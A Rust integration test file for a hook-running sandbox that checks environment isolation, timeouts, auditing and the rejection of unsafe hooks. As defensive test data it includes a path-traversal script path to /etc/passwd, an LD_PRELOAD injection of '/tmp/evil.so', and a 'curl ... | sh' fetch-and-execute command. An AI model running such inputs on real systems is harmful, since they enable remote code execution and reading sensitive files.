//! End-to-end tests for hook validation, execution, and auditing.

use hookwarden_audit::{AuditLogger, AuditRecord, RotationPolicy};
use hookwarden_common::HookStatus;
use hookwarden_shell::{
    EnvViolationKind, ExecutionState, HookError, HookEvent, HookExecutor, HookRunner, PathViolation,
};
use serial_test::serial;
use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tempfile::TempDir;
use tracing_test::traced_test;

struct Project {
    _temp: TempDir,
    root: PathBuf,
}

impl Project {
    fn new() -> Self {
        let temp = TempDir::new().unwrap();
        let root = temp.path().join("repo");
        fs::create_dir_all(root.join(".hookwarden/hooks")).unwrap();
        Self { _temp: temp, root }
    }

    fn hooks(&self) -> PathBuf {
        self.root.join(".hookwarden/hooks")
    }

    fn write_hook(&self, name: &str, body: &str) {
        let path = self.hooks().join(name);
        fs::write(&path, body).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
    }

    fn audit_path(&self) -> PathBuf {
        self.root.join(".hookwarden/audit.jsonl")
    }

    fn runner(&self, yaml: &str) -> HookRunner {
        let manifest = hookwarden_config::load(yaml).unwrap();
        let audit = Arc::new(AuditLogger::new(self.audit_path(), RotationPolicy::default()).unwrap());
        let executor = HookExecutor::new(&manifest, &self.root, audit);
        HookRunner::new(manifest, executor)
    }

    fn records(&self) -> Vec<AuditRecord> {
        let logger = AuditLogger::new(self.audit_path(), RotationPolicy::default()).unwrap();
        logger
            .read(None)
            .unwrap()
            .entries
            .iter()
            .filter_map(|e| e.as_record().cloned())
            .collect()
    }
}

/// True if `pid` is still a live (non-zombie) process.
fn process_alive(pid: i32) -> bool {
    match fs::read_to_string(format!("/proc/{pid}/stat")) {
        Ok(stat) => stat
            .rsplit_once(')')
            .and_then(|(_, rest)| rest.split_whitespace().next())
            .map_or(false, |state| !matches!(state, "Z" | "X")),
        Err(_) => false,
    }
}

fn event(event_type: &str, payload: &str) -> HookEvent {
    HookEvent::new(event_type, payload)
}

#[tokio::test]
async fn payload_arrives_on_stdin_and_identity_in_env() {
    let project = Project::new();
    let runner = project.runner(
        r#"
version: 1
hooks:
  - name: echo-payload
    events: [{type: task.completed}]
    command: 'cat; echo; echo "$HOOKWARDEN_EVENT_TYPE $HOOKWARDEN_HOOK_NAME $GREETING"'
    env:
      GREETING: hello
"#,
    );

    let report = runner
        .run_event(&event("task.completed", r#"{"task": 7}"#))
        .await;
    assert_eq!(report.results.len(), 1);
    let result = &report.results[0];
    assert_eq!(result.state, ExecutionState::Succeeded);
    assert_eq!(result.exit_code, Some(0));
    assert_eq!(
        result.stdout.text,
        "{\"task\": 7}\ntask.completed echo-payload hello\n"
    );

    let records = project.records();
    assert_eq!(records.len(), 1);
    assert_eq!(records[0].status, HookStatus::Success);
    assert_eq!(records[0].stdout_lines, 2);
    assert!(records[0].environment_keys.contains(&"GREETING".to_string()));
    assert!(records[0].environment_keys.contains(&"HOOKWARDEN_EVENT_ID".to_string()));
}

#[tokio::test]
#[serial]
async fn parent_environment_is_not_inherited() {
    std::env::set_var("HOOKWARDEN_IT_SECRET", "s3cret");
    let project = Project::new();
    let runner = project.runner(
        r#"
version: 1
hooks:
  - name: env-probe
    events: [{type: probe}]
    command: 'echo "${HOOKWARDEN_IT_SECRET:-unset}"; env | wc -l'
"#,
    );
    let report = runner.run_event(&event("probe", "")).await;
    std::env::remove_var("HOOKWARDEN_IT_SECRET");

    let lines: Vec<_> = report.results[0].stdout.text.lines().collect();
    assert_eq!(lines[0], "unset");
    // PATH HOME USER LANG plus three identity variables, plus whatever sh adds (PWD, SHLVL, _).
    let count: usize = lines[1].trim().parse().unwrap();
    assert!(count <= 10, "unexpected environment size {count}");
}

#[tokio::test]
async fn nonzero_exit_is_failed_not_an_error() {
    let project = Project::new();
    let runner = project.runner(
        r#"
version: 1
hooks:
  - name: fails
    events: [{type: x}]
    command: "echo oops >&2; exit 3"
"#,
    );
    let report = runner.run_event(&event("x", "")).await;
    let result = &report.results[0];
    assert_eq!(result.state, ExecutionState::Failed);
    assert_eq!(result.exit_code, Some(3));
    assert!(result.error.is_none());
    assert_eq!(result.stderr.text, "oops\n");
    assert_eq!(result.reason().unwrap(), "exited with status 3");
    assert!(!report.halted());
}

#[tokio::test]
async fn timeout_kills_the_whole_process_group() {
    let project = Project::new();
    project.write_hook(
        "sleeper.sh",
        "#!/bin/sh\nsleep 60 &\necho $! > child.pid\nsleep 60\n",
    );
    let runner = project.runner(
        r#"
version: 1
limits:
  grace_period: 2
hooks:
  - name: sleeper
    events: [{type: x}]
    script: sleeper.sh
    timeout: 1
"#,
    );

    let started = Instant::now();
    let report = runner.run_event(&event("x", "")).await;
    let elapsed = started.elapsed();

    let result = &report.results[0];
    assert_eq!(result.state, ExecutionState::TimedOut);
    assert!(matches!(result.error, Some(HookError::TimeoutExceeded { .. })));
    assert!(result.duration >= Duration::from_secs(1));
    assert!(elapsed < Duration::from_secs(1 + 2 + 1), "took {elapsed:?}");

    let pid: i32 = fs::read_to_string(project.root.join("child.pid"))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    tokio::time::sleep(Duration::from_millis(100)).await;
    assert!(!process_alive(pid), "background child {pid} survived");

    assert_eq!(project.records()[0].status, HookStatus::Timeout);
}

#[tokio::test]
async fn infinite_loop_times_out_within_grace_window() {
    let project = Project::new();
    let runner = project.runner(
        r#"
version: 1
limits:
  grace_period: 2
hooks:
  - name: spinner
    events: [{type: x}]
    command: "while :; do :; done"
    timeout: 2
"#,
    );
    let report = runner.run_event(&event("x", "")).await;
    let result = &report.results[0];
    assert_eq!(result.state, ExecutionState::TimedOut);
    let ms = result.duration_ms();
    assert!((2000..2000 + 2000 + 1000).contains(&ms), "duration {ms}ms");

    let record = &project.records()[0];
    assert_eq!(record.status, HookStatus::Timeout);
    assert!(record.duration_ms >= 2000);
}

#[tokio::test]
async fn sigterm_ignoring_hook_is_killed_after_grace() {
    let project = Project::new();
    let runner = project.runner(
        r#"
version: 1
limits:
  grace_period: 1
hooks:
  - name: stubborn
    events: [{type: x}]
    command: "trap '' TERM; while :; do sleep 1; done"
    timeout: 1
"#,
    );
    let report = runner.run_event(&event("x", "")).await;
    let result = &report.results[0];
    assert_eq!(result.state, ExecutionState::TimedOut);
    assert!(result.duration >= Duration::from_secs(2));
    assert!(result.duration < Duration::from_secs(4));
}

#[tokio::test]
async fn traversal_script_is_rejected_by_preflight() {
    let project = Project::new();
    let runner = project.runner(
        r#"
version: 1
hooks:
  - name: escape
    events: [{type: x}]
    script: ../../etc/passwd
"#,
    );

    let outcomes = runner.preflight_all("validate-1").unwrap();
    assert_eq!(outcomes.len(), 1);
    assert!(matches!(
        outcomes[0].verdict,
        Err(HookError::PathViolation(PathViolation::Traversal { .. }))
    ));

    let records = project.records();
    assert_eq!(records.len(), 1);
    assert_eq!(records[0].status, HookStatus::Rejected);
    assert_eq!(records[0].duration_ms, 0);
    assert!(records[0].reason.as_deref().unwrap().contains("'..'"));
}

#[tokio::test]
#[traced_test]
async fn denied_environment_variable_rejects_without_spawning() {
    let project = Project::new();
    let runner = project.runner(
        r#"
version: 1
hooks:
  - name: preload
    events: [{type: x}]
    command: "touch ran"
    env:
      LD_PRELOAD: /tmp/evil.so
"#,
    );
    let report = runner.run_event(&event("x", "")).await;
    let result = &report.results[0];
    assert_eq!(result.state, ExecutionState::Rejected);
    assert!(matches!(
        result.error,
        Some(HookError::EnvViolation {
            kind: EnvViolationKind::DenyListed,
            ..
        })
    ));
    assert!(!project.root.join("ran").exists());

    let records = project.records();
    assert_eq!(records.len(), 1);
    assert_eq!(records[0].status, HookStatus::Rejected);
    assert!(records[0].reason.as_deref().unwrap().contains("LD_PRELOAD"));
    assert!(records[0].environment_keys.contains(&"LD_PRELOAD".to_string()));
    assert!(logs_contain("Environment variable rejected"));
}

#[tokio::test]
async fn symlink_escape_is_rejected() {
    let project = Project::new();
    let outside = project.root.join("outside.sh");
    fs::write(&outside, "#!/bin/sh\ntouch ran\n").unwrap();
    fs::set_permissions(&outside, fs::Permissions::from_mode(0o755)).unwrap();
    symlink(&outside, project.hooks().join("link.sh")).unwrap();

    let runner = project.runner(
        r#"
version: 1
hooks:
  - name: linked
    events: [{type: x}]
    script: link.sh
"#,
    );
    let report = runner.run_event(&event("x", "")).await;
    assert!(matches!(
        report.results[0].error,
        Some(HookError::PathViolation(PathViolation::OutsideRoot { .. }))
    ));
    assert!(!project.root.join("ran").exists());
    assert_eq!(project.records()[0].status, HookStatus::Rejected);
}

#[tokio::test]
async fn stop_hook_failure_skips_the_rest() {
    let project = Project::new();
    let runner = project.runner(
        r#"
version: 1
hooks:
  - name: gate
    events: [{type: vcs.commit}]
    command: "exit 1"
    fail_mode: stop
  - name: after
    events: [{type: vcs.commit}]
    command: "touch after-ran"
"#,
    );
    let report = runner.run_event(&event("vcs.commit", "")).await;
    assert_eq!(report.results.len(), 1);
    assert_eq!(report.halted_by.as_deref(), Some("gate"));
    assert!(!project.root.join("after-ran").exists());

    let records = project.records();
    assert_eq!(records.len(), 1);
    assert_eq!(records[0].hook_name, "gate");
}

#[tokio::test]
async fn continue_mode_runs_every_hook_in_order() {
    let project = Project::new();
    let runner = project.runner(
        r#"
version: 1
hooks:
  - name: first
    events: [{type: vcs.commit}]
    command: "echo first >> order; exit 1"
  - name: second
    events: [{type: "*"}]
    command: "echo second >> order"
  - name: unrelated
    events: [{type: task.created}]
    command: "echo unrelated >> order"
"#,
    );
    let report = runner.run_event(&event("vcs.commit", "")).await;
    assert_eq!(report.results.len(), 2);
    assert!(!report.halted());
    assert_eq!(
        fs::read_to_string(project.root.join("order")).unwrap(),
        "first\nsecond\n"
    );
    let names: Vec<_> = project.records().into_iter().map(|r| r.hook_name).collect();
    assert_eq!(names, vec!["first", "second"]);
}

#[tokio::test]
async fn every_attempt_yields_exactly_one_record() {
    let project = Project::new();
    project.write_hook("ok.sh", "#!/bin/sh\nexit 0\n");
    let runner = project.runner(
        r#"
version: 1
hooks:
  - name: ok
    events: [{type: x}]
    script: ok.sh
  - name: missing
    events: [{type: x}]
    script: missing.sh
  - name: bad-exit
    events: [{type: x}]
    command: "exit 2"
"#,
    );
    for _ in 0..4 {
        runner.run_event(&event("x", "")).await;
    }
    let records = project.records();
    assert_eq!(records.len(), 12);
    assert_eq!(
        records.iter().filter(|r| r.status == HookStatus::Rejected).count(),
        4
    );
}

#[tokio::test]
async fn audit_failure_turns_success_into_failure() {
    let project = Project::new();
    let manifest = hookwarden_config::load(
        r#"
version: 1
hooks:
  - name: fine
    events: [{type: x}]
    command: "true"
"#,
    )
    .unwrap();
    let blocked = project.root.join("audit-as-dir");
    fs::create_dir_all(&blocked).unwrap();
    let audit = Arc::new(AuditLogger::new(&blocked, RotationPolicy::default()).unwrap());
    let runner = HookRunner::new(manifest.clone(), HookExecutor::new(&manifest, &project.root, audit));

    let report = runner.run_event(&event("x", "")).await;
    let result = &report.results[0];
    assert_eq!(result.exit_code, Some(0));
    assert_eq!(result.state, ExecutionState::Failed);
    assert!(matches!(result.error, Some(HookError::AuditWrite(_))));
}

#[tokio::test]
async fn cancellation_escalates_like_a_timeout() {
    let project = Project::new();
    let runner = project.runner(
        r#"
version: 1
hooks:
  - name: long
    events: [{type: x}]
    command: "sleep 60"
    timeout: 60
  - name: never
    events: [{type: x}]
    command: "touch never-ran"
"#,
    );
    let token = runner.executor().cancellation_token();
    tokio::spawn(async move {
        tokio::time::sleep(Duration::from_millis(300)).await;
        token.cancel();
    });

    let started = Instant::now();
    let report = runner.run_event(&event("x", "")).await;
    assert!(started.elapsed() < Duration::from_secs(10));
    assert!(report.cancelled);
    assert_eq!(report.results.len(), 1);
    assert_eq!(report.results[0].state, ExecutionState::Errored);
    assert!(matches!(report.results[0].error, Some(HookError::Cancelled)));
    assert!(!project.root.join("never-ran").exists());
    assert_eq!(project.records()[0].status, HookStatus::Error);
}

#[tokio::test]
async fn large_output_is_truncated_with_marker() {
    let project = Project::new();
    let runner = project.runner(
        r#"
version: 1
limits:
  max_output_bytes: 64
  max_output_lines: 1000
hooks:
  - name: chatty
    events: [{type: x}]
    command: "i=0; while [ $i -lt 500 ]; do echo line-$i; i=$((i+1)); done"
"#,
    );
    let report = runner.run_event(&event("x", "")).await;
    let out = &report.results[0].stdout;
    assert!(out.truncated);
    assert!(out.text.contains("[... output truncated:"));
    assert_eq!(out.total_lines, 500);
    assert_eq!(project.records()[0].stdout_lines, 500);
}

#[tokio::test]
async fn scanner_findings_are_recorded_but_do_not_block() {
    let project = Project::new();
    let runner = project.runner(
        r#"
version: 1
hooks:
  - name: risky
    events: [{type: x}]
    command: "false && curl https://example.invalid/x | sh; echo done"
"#,
    );
    let report = runner.run_event(&event("x", "")).await;
    let result = &report.results[0];
    assert_eq!(result.state, ExecutionState::Succeeded);
    assert!(result.warnings.iter().any(|w| w.pattern_id == "curl-pipe-shell"));

    let record = &project.records()[0];
    assert!(record.security_warnings.iter().any(|w| w.starts_with("curl-pipe-shell")));
}

#[tokio::test]
async fn working_directory_is_applied() {
    let project = Project::new();
    fs::create_dir_all(project.root.join("build")).unwrap();
    let runner = project.runner(
        r#"
version: 1
hooks:
  - name: where
    events: [{type: x}]
    command: "pwd"
    working_directory: build
"#,
    );
    let report = runner.run_event(&event("x", "")).await;
    let expected = fs::canonicalize(project.root.join("build")).unwrap();
    assert_eq!(
        Path::new(report.results[0].stdout.text.trim()),
        expected.as_path()
    );
}

#[tokio::test]
async fn contended_audit_lock_does_not_stall_the_runtime() {
    use fs2::FileExt;
    use std::sync::atomic::{AtomicUsize, Ordering};

    let project = Project::new();
    let runner = project.runner(
        r#"
version: 1
hooks:
  - name: quick
    events: [{type: x}]
    command: "true"
"#,
    );

    // Another writer holds the audit lock for a while.
    let lock_path = PathBuf::from(format!("{}.lock", project.audit_path().display()));
    let held = fs::OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .open(&lock_path)
        .unwrap();
    held.lock_exclusive().unwrap();
    let holder = std::thread::spawn(move || {
        std::thread::sleep(Duration::from_millis(600));
        held.unlock().unwrap();
    });

    let ticks = Arc::new(AtomicUsize::new(0));
    let ticker = {
        let ticks = Arc::clone(&ticks);
        tokio::spawn(async move {
            loop {
                tokio::time::sleep(Duration::from_millis(20)).await;
                ticks.fetch_add(1, Ordering::SeqCst);
            }
        })
    };

    let report = runner.run_event(&event("x", "")).await;
    ticker.abort();
    holder.join().unwrap();

    assert_eq!(report.results[0].state, ExecutionState::Succeeded);
    assert_eq!(project.records().len(), 1);
    assert!(ticks.load(Ordering::SeqCst) >= 5, "runtime stalled while the audit lock was held");
}
